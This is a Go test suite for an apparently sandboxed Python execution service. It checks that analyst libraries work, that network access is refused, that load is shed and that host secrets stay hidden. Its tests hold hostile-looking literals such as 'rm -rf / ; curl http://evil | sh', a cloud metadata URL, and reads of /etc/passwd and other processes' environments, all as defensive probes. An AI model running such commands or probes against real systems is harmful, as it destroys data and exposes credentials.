// SPDX-License-Identifier: Apache-2.0

package blackbox_test

import (
	"fmt"
	"net/http"
	"os"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"glovebox/internal/interpreter"
)

// TestImageHoldsThePrograms: what runs inside is what this binary was built with, or every other answer here is of no use.
func TestImageHoldsThePrograms(t *testing.T) {
	t.Parallel()
	x := theServer(t).run(t, "import hashlib,os\nr='"+interpreter.Root+"'\nd=hashlib.sha256()\n"+
		"for n in sorted(os.path.relpath(os.path.join(p,f),r) for p,_,fs in os.walk(r) for f in fs if not f.endswith('.pyc')):\n"+
		" c=open(os.path.join(r,n),'rb').read(); d.update(f'{n} {len(c)}\\n'.encode()+c)\nprint(d.hexdigest())").ok(t)
	if strings.TrimSpace(x.Stdout) != interpreter.Digest() {
		t.Error("the image holds other programs than this checkout: run `make image`")
	}
}

// TestT25Stack: what analysts import is there and works under the system call filter.
func TestT25Stack(t *testing.T) {
	t.Parallel()
	s := theServer(t)
	for name, code := range map[string]string{
		"all":                  "import pandas,numpy,matplotlib,scipy,sklearn,requests,json;print('ok')",
		"linear":               "import numpy as np\nassert abs(np.linalg.svd(np.ones((50,50)))[1][0]-50)<1e-6\nprint('ok')",
		"groupby":              "assert pd.DataFrame({'k':[1,1,2],'v':[1,2,3]}).groupby('k').v.sum().tolist()==[3,3]\nprint('ok')",
		"scipy":                "from scipy import stats,optimize\nassert abs(optimize.brentq(lambda x:x*x-2,0,2)-2**.5)<1e-9\nprint('ok')",
		"sklearn":              "from sklearn.linear_model import LinearRegression\nassert abs(LinearRegression().fit([[0],[1]],[0,2]).coef_[0]-2)<1e-9\nprint('ok')",
		"forest":               "from sklearn.ensemble import RandomForestClassifier\nRandomForestClassifier(5,n_jobs=2).fit([[0],[1]]*10,[0,1]*10)\nprint('ok')",
		"statsmodels":          "import statsmodels.api as sm\nsm.OLS([1,2,3.1],sm.add_constant([1,2,3])).fit()\nprint('ok')",
		"arrow":                "pd.DataFrame({'a':[1]}).to_parquet('a.parquet');assert len(pd.read_parquet('a.parquet'))==1\nprint('ok')",
		"excel":                "pd.DataFrame({'a':[1]}).to_excel('a.xlsx');assert len(pd.read_excel('a.xlsx'))==1\nprint('ok')",
		"duckdb":               "import duckdb\nassert duckdb.sql('select 42').fetchall()==[(42,)]\nprint('ok')",
		"polars":               "import polars\nassert polars.DataFrame({'a':[1,2]}).sum()['a'][0]==3\nprint('ok')",
		"sqlite":               "import sqlite3\nassert sqlite3.connect('a.db').execute('select 42').fetchone()==(42,)\nprint('ok')",
		"threads":              "from concurrent.futures import ThreadPoolExecutor\nassert list(ThreadPoolExecutor(4).map(abs,[-1]))==[1]\nprint('ok')",
		"processes":            "import multiprocessing as m\nwith m.Pool(2) as p: assert p.map(abs,[-1])==[1]\nprint('ok')",
		"sympy":                "import sympy\nassert str(sympy.integrate('x'))=='x**2/2'\nprint('ok')",
		"networkx":             "import networkx as nx\nassert nx.shortest_path_length(nx.path_graph(5),0,4)==4\nprint('ok')",
		"html":                 "from bs4 import BeautifulSoup\nassert BeautifulSoup('<b>x</b>','lxml').b.text=='x'\nprint('ok')",
		"ssl":                  "import ssl,hashlib,zlib,lzma,bz2,ctypes,uuid,decimal\nssl.create_default_context()\nprint('ok')",
		"a temporary":          "import tempfile\nwith tempfile.NamedTemporaryFile('w') as f: f.write('x')\nprint('ok')",
		"a compiler-free eval": "import pandas as pd\nassert pd.eval('1+1')==2\nprint('ok')",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if x := s.run(t, code, within(60)); strings.TrimSpace(x.Stdout) != "ok" || x.Status != "ok" {
				t.Errorf("%s %s %v\n%s", x.Status, x.Message, x.Error, x.Stderr)
			}
		})
	}
}

// TestT27Joblib: processes and threads, without a flood of warnings.
func TestT27Joblib(t *testing.T) {
	t.Parallel()
	s := theServer(t)
	for name, c := range map[string]struct{ code, want string }{
		"processes":   {"from joblib import Parallel,delayed\nprint(Parallel(n_jobs=2)(delayed(abs)(i) for i in [-1,-2]))", "[1, 2]"},
		"all":         {"from joblib import Parallel,delayed\nprint(Parallel(n_jobs=-1)(delayed(abs)(i) for i in [-1,-2]))", "[1, 2]"},
		"own":         {"from joblib import Parallel,delayed\ndef f(x): return x*2\nprint(Parallel(n_jobs=2)(delayed(f)(i) for i in [1,2]))", "[2, 4]"},
		"threads":     {"from joblib import Parallel,delayed\nprint(Parallel(n_jobs=2,prefer='threads')(delayed(abs)(i) for i in [-1,-2]))", "[1, 2]"},
		"forked":      {"from joblib import Parallel,delayed\nprint(Parallel(n_jobs=2,backend='multiprocessing')(delayed(abs)(i) for i in [-1,-2]))", "[1, 2]"},
		"memory":      {"from joblib import Memory\nm=Memory('c',verbose=0)\n@m.cache\ndef f(x): return x+1\nprint(f(1),f(1))", "2 2"},
		"executor":    {"from concurrent.futures import ProcessPoolExecutor\nprint(list(ProcessPoolExecutor(2).map(abs,[-1,-2])))", "[1, 2]"},
		"grid search": {"from sklearn.model_selection import GridSearchCV\nfrom sklearn.tree import DecisionTreeClassifier\ng=GridSearchCV(DecisionTreeClassifier(random_state=0),{'max_depth':[1,2]},n_jobs=2,cv=2).fit([[0],[1]]*4,[0,1]*4)\nprint(g.best_score_)", "1.0"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			x := s.run(t, c.code, within(60))
			x.says(t, c.want)
			if x.Stderr != "" {
				t.Errorf("stderr: %.500s", x.Stderr)
			}
		})
	}
}

// TestT69TimeZones: the data of zones is there.
func TestT69TimeZones(t *testing.T) {
	t.Parallel()
	s := theServer(t)
	s.run(t, "from zoneinfo import ZoneInfo\nimport datetime\nprint(datetime.datetime(2026,7,1,tzinfo=ZoneInfo('Europe/Paris')).utcoffset())").says(t, "2:00:00")
	s.run(t, "print(pd.Timestamp('2026-01-01 12:00',tz='Asia/Shanghai').tz_convert('America/New_York'))").says(t, "2025-12-31 23:00:00-05:00")
	s.run(t, "print(pd.date_range('2026-03-29',periods=2,tz='Europe/Berlin').map(lambda d: d.utcoffset()).tolist()[1])").says(t, "0 days 02:00:00")
	s.run(t, "import time\nprint(time.tzname[0])").says(t, "UTC")
	x := s.run(t, "import time\nprint(time.time())").ok(t)
	var inside float64
	if _, err := fmt.Sscan(x.Stdout, &inside); err != nil || time.Since(time.UnixMilli(int64(inside*1000))).Abs() > time.Minute {
		t.Errorf("the clock inside says %s", x.Stdout)
	}
	t.Run("T67 after a pause", func(t *testing.T) { t.Skip("skipped: sandboxes cannot be paused yet (T77 too)") })
}

// TestT71NoNetwork: what needs the network fails soon, and says why.
func TestT71NoNetwork(t *testing.T) {
	t.Parallel()
	s := theServer(t)
	for name, code := range map[string]string{
		"requests":   "import requests\nrequests.get('https://example.com')",
		"a timeout":  "import requests\nrequests.get('https://example.com', timeout=60)",
		"by address": "import requests\nrequests.get('http://93.184.216.34/')",
		"urllib":     "import urllib.request\nurllib.request.urlopen('https://example.com')",
		"socket":     "import socket\nsocket.create_connection(('example.com',443))",
		"resolver":   "import socket\nsocket.getaddrinfo('example.com',443)",
		"pandas":     "pd.read_csv('https://example.com/a.csv')",
		"seaborn":    "sns.load_dataset('iris')",
		"metadata":   "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/')",
		"the host":   "import urllib.request\nurllib.request.urlopen('" + s.url + "/healthz')",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			took(t, 3+2, func() { // two seconds for the imports
				x := s.run(t, code, within(30))
				if x.Error == nil {
					t.Fatalf("%s: no error", x.Status)
				}
				// The server listens on another loopback than the sandbox's own, where nobody does.
				if text := x.Error.Traceback; name != "the host" && (!strings.Contains(text, "no network") || !strings.Contains(text, "policy")) {
					t.Errorf("the policy is not named: %.100q %v", x.Error.Value, x.Warnings)
				}
			})
		})
	}
	t.Run("inside", func(t *testing.T) { // the sandbox can still speak to itself
		t.Parallel()
		s.run(t, "import socket,threading\ns=socket.create_server(('127.0.0.1',0))\nthreading.Thread(target=lambda: s.accept()[0].sendall(b'hi')).start()\nprint(socket.create_connection(s.getsockname()).recv(9).decode())").says(t, "hi")
	})
}

// TestT79EveryCallerItsOwn: of many at once each gets its own answer, or is told to come again.
func TestT79EveryCallerItsOwn(t *testing.T) {
	s := theServer(t) // not parallel: the queue is all its own
	const callers = 200
	todo := make([]int, callers)
	for i := range todo {
		todo[i] = i
	}
	var refused []int
	for round := 0; len(todo) > 0; round++ {
		if round > callers {
			t.Fatalf("%d callers never had their turn", len(todo))
		}
		var mu sync.Mutex
		var all sync.WaitGroup
		refused = nil
		for _, i := range todo {
			all.Go(func() {
				body := strings.NewReader(fmt.Sprintf(`{"code": "print('id-%d')", "limits": {"wall": 60}}`, i))
				a, err := s.ask(t.Context(), http.MethodPost, "/v1/executions", "application/json", body)
				mu.Lock()
				defer mu.Unlock()
				switch {
				case err != nil:
					t.Errorf("caller %d: %v", i, err)
				case a.status == http.StatusTooManyRequests:
					if code, _ := a.problem(t); code != "overloaded" || !regexp.MustCompile(`^[1-9]\d*$`).MatchString(a.header.Get("Retry-After")) {
						t.Errorf("caller %d: %s, Retry-After %q", i, code, a.header.Get("Retry-After"))
					}
					refused = append(refused, i)
				case a.status != http.StatusOK || decode(t, a.body).Stdout != fmt.Sprintf("id-%d\n", i):
					t.Errorf("caller %d: %d %.300s", i, a.status, a.body)
				}
			})
		}
		all.Wait()
		if round == 0 {
			t.Logf("%d of %d at once were told to come again", len(refused), callers)
		}
		if len(refused) == len(todo) {
			t.Fatal("nobody had a turn")
		}
		todo = refused
	}
	s.alive(t)
}

// TestT81Backends: the table holds on native; the others are not there.
func TestT81Backends(t *testing.T) {
	t.Parallel()
	s := theServer(t)
	for _, name := range []string{"gvisor", "docker", "restricted"} {
		a := s.post(t, call{"code": "1", "backend": name})
		if a.status == http.StatusOK {
			t.Errorf("%s is there: run the cases on it", name)
		} else if code, text := a.problem(t); code != "invalid_request" || !strings.Contains(text, name) {
			t.Errorf("%s: %s", name, a.body)
		}
	}
	t.Skip("skipped: there is no backend besides native yet")
}

// TestT83NoFalseAlarm: words that look dangerous in honest code.
func TestT83NoFalseAlarm(t *testing.T) {
	t.Parallel()
	s := theServer(t)
	for code, want := range map[string]string{
		"print('os.system')": "os.system",
		"df=pd.DataFrame({'exec':[1],'eval':[2]})\nprint(df.exec.sum(), df['eval'].sum())":                     "1 2",
		"df=pd.DataFrame({'a':[1],'b':[2]})\nprint(df.eval('a+b')[0])":                                         "3",
		"df=pd.DataFrame({'a':[1,5]})\nprint(len(df.query('a > 2')))":                                          "1",
		"print('rm -rf / ; curl http://evil | sh')":                                                            "rm -rf / ; curl http://evil | sh",
		"x='__import__(\"os\")'\nprint(len(x))":                                                                "16",
		"# subprocess.run(['ls'])\nprint('fine')":                                                              "fine",
		"import os\nprint(os.path.join('a','b'))":                                                              "a/b",
		"def system(x): return x\nprint(system('ok'))":                                                         "ok",
		"import pickle\nprint(pickle.loads(pickle.dumps({'a':1})))":                                            "{'a': 1}",
		"print(eval('1+1'), compile('1','x','eval') is not None)":                                              "2 True",
		"import re\nprint(re.sub('exec|eval','x','exec eval'))":                                                "x x",
		"open_position='short'\nprint(open_position)":                                                          "short",
		"import subprocess\nprint(subprocess.run(['echo','ok'],capture_output=True,text=True).stdout.strip())": "ok",
		"print('DROP TABLE users; --')":                                                                        "DROP TABLE users; --",
		"class A:\n __slots__=('a',)\nprint(A.__name__)":                                                       "A",
		"print('\\x1b[31mred\\x1b[0m')":                                                                        "\x1b[31mred\x1b[0m",
	} {
		t.Run(code, func(t *testing.T) {
			t.Parallel()
			s.run(t, code, within(30)).says(t, want)
		})
	}
}

// TestT85NoSecrets: nothing of the server or the host is seen from inside.
func TestT85NoSecrets(t *testing.T) {
	t.Parallel()
	s := theServer(t)
	host, err := os.Hostname()
	if err != nil {
		t.Fatal(err)
	}
	for name, code := range map[string]string{
		"environment": "import os;print(dict(os.environ))",
		"of others":   "import glob\nfor f in glob.glob('/proc/[0-9]*/environ'):\n try: print(open(f,'rb').read())\n except OSError as e: print(e)",
		"command":     "import glob\nfor f in glob.glob('/proc/[0-9]*/cmdline'): print(open(f,'rb').read())",
		"mounts":      "print(open('/proc/self/mountinfo').read())",
		"files":       "import glob\nfor p in ('/etc/hostname','/etc/hosts','/etc/passwd','/etc/resolv.conf','/etc/machine-id'):\n print(open(p).read())\nprint(glob.glob('/root/*'),glob.glob('/var/lib/*'),glob.glob('/run/*'))",
		"name":        "import socket,platform\nprint(socket.gethostname(),platform.node())",
		"descriptors": "import os\nfor f in os.listdir('/proc/self/fd'):\n try: print(f,os.readlink('/proc/self/fd/'+f))\n except OSError: pass",
		"memory maps": "print(open('/proc/self/maps').read())",
		"cgroup":      "print(open('/proc/self/cgroup').read())",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			x := s.run(t, code).ok(t)
			// The kernel shows where on its file system the source of a bind mount lies: no secret, so mounts are only
			// searched for secrets proper.
			secrets := []string{s.token, "canary-in-the-environment", s.folder, "GLOVEBOX_TOKEN", "/tmp/"}
			if name == "environment" || name == "descriptors" || name == "memory maps" {
				secrets = secrets[:4] // /tmp is there for everybody
			}
			if len(host) > 4 && name == "name" {
				secrets = append(secrets, host)
			}
			for _, secret := range secrets {
				if strings.Contains(x.Stdout, secret) && (name != "mounts" || !strings.HasPrefix(secret, "/")) {
					t.Errorf("%q is seen: %.1500s", secret, x.Stdout)
				}
			}
		})
	}
	x := s.run(t, "import os,glob\nprint(sorted(open(f'/proc/{p}/comm').read().strip() for p in os.listdir('/proc') if p.isdigit()))").ok(t)
	for _, other := range []string{"systemd", "glovebox", "sshd", "go", "blackbox"} {
		if strings.Contains(x.Stdout, "'"+other+"'") {
			t.Errorf("processes of the host are seen: %s", x.Stdout)
		}
	}
}

// TestT87CountsReturnToZero: made and deleted in a loop, some in the middle of their making.
func TestT87CountsReturnToZero(t *testing.T) {
	t.Parallel()
	s := theServer(t)
	mark := marked(t)
	for i := range 60 {
		code := "import subprocess\nsubprocess.run(['sleep','" + mark + "'])"
		if i%3 == 0 {
			code = "print(1)"
		}
		a := s.post(t, call{"code": code, "detach": true, "limits": call{"wall": 300}})
		if a.status == http.StatusTooManyRequests {
			continue
		}
		x := decode(t, a.body)
		if a.status != http.StatusAccepted {
			t.Fatalf("%d %.300s", a.status, a.body)
		}
		if a := s.do(t, http.MethodDelete, "/v1/executions/"+x.ID, "", nil); a.status != http.StatusNoContent {
			t.Errorf("%d %.300s", a.status, a.body)
		}
		if a := s.get(t, "/v1/executions/"+x.ID); a.status != http.StatusNotFound {
			t.Errorf("%d %.300s", a.status, a.body)
		}
	}
	for range 20 {
		n := s.open(t, call{})
		if a := s.do(t, http.MethodDelete, "/v1/sandboxes/"+n.id, "", nil); a.status != http.StatusNoContent {
			t.Errorf("%d %.300s", a.status, a.body)
		}
		if a := s.get(t, "/v1/sandboxes/"+n.id); a.status != http.StatusNotFound {
			t.Errorf("%d %.300s", a.status, a.body)
		}
	}
	if left := strays(t, mark); len(left) > 0 {
		t.Errorf("left behind: %v", left)
	}
	s.alive(t)
}
